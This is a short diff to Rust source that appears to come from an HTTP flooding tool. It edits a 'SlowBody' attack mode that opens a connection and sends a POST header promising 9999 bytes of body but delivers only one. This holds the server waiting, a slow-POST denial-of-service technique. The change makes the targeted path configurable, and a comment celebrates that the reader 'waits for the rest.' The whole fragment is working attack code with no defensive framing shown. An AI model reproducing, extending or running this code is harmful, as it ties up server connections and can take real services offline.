@@ -116,9 +116,10 @@ impl Flood {
             }
             Self::SlowBody => {
                 let mut stream = plain(target).await?;
+                // Whoever reads it waits for the rest.
                 let head = format!(
-                    "POST / HTTP/1.1\r\nHost: {}\r\nContent-Length: 9999\r\n\r\nx",
-                    target.host
+                    "POST {} HTTP/1.1\r\nHost: {}\r\nContent-Length: 9999\r\n\r\nx",
+                    target.slow, target.host
                 );
                 stream.write_all(head.as_bytes()).await?;
                 drain(&mut stream).await
